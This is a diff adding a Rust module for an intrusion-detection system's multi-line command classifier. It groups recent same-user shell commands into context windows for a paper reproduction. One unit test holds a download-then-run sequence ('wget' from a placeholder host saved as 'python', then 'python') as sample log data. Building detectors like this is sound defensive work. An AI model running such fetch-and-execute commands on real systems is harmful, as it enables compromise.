@@ -1,0 +1,261 @@
+//! Multi-line classification (paper Section IV-C).
+//!
+//! "for classifying a particular command-line operation, several command
+//! lines in the most recent past from the same user are additionally
+//! served for reference, if their execution time is not too long ago.
+//! These command lines are concatenated with a shell command separator
+//! `;` before being fed into the model." The paper uses three temporally
+//! contiguous lines.
+
+use crate::embed::{embed_ids, Pooling};
+use crate::pipeline::IdsPipeline;
+use crate::tuning::classification::TuneConfig;
+use corpus::LogRecord;
+use linalg::Matrix;
+use nn::{AdamW, ClassificationHead};
+use rand::Rng;
+use std::collections::HashMap;
+
+/// A context window: the target line preceded by recent same-user lines.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ContextWindow {
+    /// Lines oldest-first; the last one is the target.
+    pub lines: Vec<String>,
+    /// Index of the target record in the source slice.
+    pub target_index: usize,
+}
+
+impl ContextWindow {
+    /// The window joined with the shell separator, as fed to the model.
+    pub fn joined(&self) -> String {
+        self.lines.join(" ; ")
+    }
+}
+
+/// Builds one window per record: up to `width` lines of the same user
+/// ending at the record, including earlier lines only when the time gap
+/// to the previous line is at most `max_gap` seconds.
+///
+/// Records must be sorted by timestamp (corpus datasets are).
+pub fn build_windows(records: &[LogRecord], width: usize, max_gap: u64) -> Vec<ContextWindow> {
+    let width = width.max(1);
+    // Per-user history of (timestamp, index).
+    let mut history: HashMap<u32, Vec<usize>> = HashMap::new();
+    let mut windows = Vec::with_capacity(records.len());
+    for (i, r) in records.iter().enumerate() {
+        let user_hist = history.entry(r.user).or_default();
+        let mut chain: Vec<usize> = vec![i];
+        let mut newest_ts = r.timestamp;
+        for &j in user_hist.iter().rev() {
+            if chain.len() >= width {
+                break;
+            }
+            let ts = records[j].timestamp;
+            if newest_ts.saturating_sub(ts) > max_gap {
+                break;
+            }
+            chain.push(j);
+            newest_ts = ts;
+        }
+        chain.reverse();
+        windows.push(ContextWindow {
+            lines: chain.iter().map(|&j| records[j].line.clone()).collect(),
+            target_index: i,
+        });
+        user_hist.push(i);
+    }
+    windows
+}
+
+/// The multi-line classifier: frozen backbone, head over windowed input.
+///
+/// The head input concatenates the `[CLS]` embedding of the full
+/// `;`-joined window with the `[CLS]` embedding of the target line
+/// alone. At the paper's BERT-base scale, positional encoding lets the
+/// model localize the target inside the window by itself; at this
+/// reproduction's model scale the pooled window embedding cannot, and
+/// windows whose *context* contains an attack would dominate the
+/// prediction for a benign target ("attack shadows"). Handing the head
+/// the target embedding explicitly restores the paper's semantics:
+/// context "serves as reference" for classifying *the target line*.
+#[derive(Debug)]
+pub struct MultiLineClassifier {
+    head: ClassificationHead,
+    width: usize,
+    max_gap: u64,
+}
+
+/// Builds the `(n, 2·hidden)` head input: window embedding ‖ target
+/// embedding.
+fn window_features(
+    pipeline: &IdsPipeline,
+    windows: &[ContextWindow],
+) -> Matrix {
+    let window_seqs: Vec<Vec<u32>> = windows
+        .iter()
+        .map(|w| {
+            let refs: Vec<&str> = w.lines.iter().map(|s| s.as_str()).collect();
+            pipeline.encode_multi(&refs)
+        })
+        .collect();
+    let target_seqs: Vec<Vec<u32>> = windows
+        .iter()
+        .map(|w| pipeline.encode(w.lines.last().expect("windows are non-empty")))
+        .collect();
+    let window_emb = embed_ids(pipeline.encoder(), &window_seqs, Pooling::Cls);
+    let target_emb = embed_ids(pipeline.encoder(), &target_seqs, Pooling::Cls);
+    let hidden = window_emb.cols();
+    Matrix::from_fn(windows.len(), 2 * hidden, |r, c| {
+        if c < hidden {
+            window_emb[(r, c)]
+        } else {
+            target_emb[(r, c - hidden)]
+        }
+    })
+}
+
+impl MultiLineClassifier {
+    /// Tunes on training records; `labels[i]` is the supervision label of
+    /// `records[i]` (the target line's label, as in the paper).
+    ///
+    /// # Panics
+    ///
+    /// Panics if inputs are empty or lengths disagree.
+    pub fn fit<R: Rng + ?Sized>(
+        pipeline: &IdsPipeline,
+        records: &[LogRecord],
+        labels: &[bool],
+        width: usize,
+        max_gap: u64,
+        config: &TuneConfig,
+        rng: &mut R,
+    ) -> Self {
+        assert!(!records.is_empty(), "no records to tune on");
+        assert_eq!(records.len(), labels.len(), "one label per record");
+        let windows = build_windows(records, width, max_gap);
+        let embeddings = window_features(pipeline, &windows);
+        let idx = crate::tuning::classification::balance_indices(labels);
+        let balanced = Matrix::from_fn(idx.len(), embeddings.cols(), |r, c| {
+            embeddings[(idx[r], c)]
+        });
+        let targets: Vec<u32> = idx.iter().map(|&i| labels[i] as u32).collect();
+        let mut head = ClassificationHead::new(
+            rng,
+            2 * pipeline.encoder().config().hidden,
+            config.inner_dim,
+        );
+        let mut optimizer = AdamW::new(config.lr, config.weight_decay);
+        head.fit(
+            rng,
+            &balanced,
+            &targets,
+            config.epochs,
+            config.batch_size,
+            &mut optimizer,
+        );
+        MultiLineClassifier {
+            head,
+            width,
+            max_gap,
+        }
+    }
+
+    /// Context width (the paper uses 3).
+    pub fn width(&self) -> usize {
+        self.width
+    }
+
+    /// Scores every record of a test stream, windowing it the same way.
+    pub fn score_records(&self, pipeline: &IdsPipeline, records: &[LogRecord]) -> Vec<f32> {
+        if records.is_empty() {
+            return Vec::new();
+        }
+        let windows = build_windows(records, self.width, self.max_gap);
+        let embeddings = window_features(pipeline, &windows);
+        self.head.predict_proba(&embeddings)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use corpus::GroundTruth;
+
+    fn rec(user: u32, t: u64, line: &str) -> LogRecord {
+        LogRecord {
+            user,
+            timestamp: t,
+            line: line.to_string(),
+            truth: GroundTruth::Benign,
+        }
+    }
+
+    #[test]
+    fn windows_follow_same_user_within_gap() {
+        let records = vec![
+            rec(1, 100, "cd /tmp"),
+            rec(2, 105, "ls"),
+            rec(1, 110, "wget -c http://e/p -o python"),
+            rec(1, 115, "python"),
+        ];
+        let windows = build_windows(&records, 3, 60);
+        // The last record's window: all three user-1 lines.
+        assert_eq!(
+            windows[3].lines,
+            vec!["cd /tmp", "wget -c http://e/p -o python", "python"]
+        );
+        // User 2's single line has no context.
+        assert_eq!(windows[1].lines, vec!["ls"]);
+    }
+
+    #[test]
+    fn window_width_is_respected() {
+        let records: Vec<LogRecord> =
+            (0..6).map(|i| rec(1, 100 + i, &format!("cmd{i}"))).collect();
+        let windows = build_windows(&records, 3, 60);
+        assert_eq!(windows[5].lines, vec!["cmd3", "cmd4", "cmd5"]);
+    }
+
+    #[test]
+    fn stale_context_is_excluded() {
+        let records = vec![
+            rec(1, 100, "old command"),
+            rec(1, 100_000, "fresh command"),
+        ];
+        let windows = build_windows(&records, 3, 300);
+        assert_eq!(windows[1].lines, vec!["fresh command"]);
+    }
+
+    #[test]
+    fn gap_chains_between_consecutive_lines() {
+        // 100 → 350 → 600: each consecutive gap is 250 ≤ 300, so the
+        // whole chain is context even though 600−100 > 300.
+        let records = vec![
+            rec(1, 100, "a"),
+            rec(1, 350, "b"),
+            rec(1, 600, "c"),
+        ];
+        let windows = build_windows(&records, 3, 300);
+        assert_eq!(windows[2].lines, vec!["a", "b", "c"]);
+    }
+
+    #[test]
+    fn joined_uses_shell_separator() {
+        let w = ContextWindow {
+            lines: vec!["wget x".into(), "python".into()],
+            target_index: 1,
+        };
+        assert_eq!(w.joined(), "wget x ; python");
+    }
+
+    #[test]
+    fn one_window_per_record() {
+        let records = vec![rec(1, 1, "a"), rec(2, 2, "b"), rec(1, 3, "c")];
+        let windows = build_windows(&records, 3, 10);
+        assert_eq!(windows.len(), 3);
+        for (i, w) in windows.iter().enumerate() {
+            assert_eq!(w.target_index, i);
+            assert_eq!(w.lines.last().unwrap(), &records[i].line);
+        }
+    }
+}
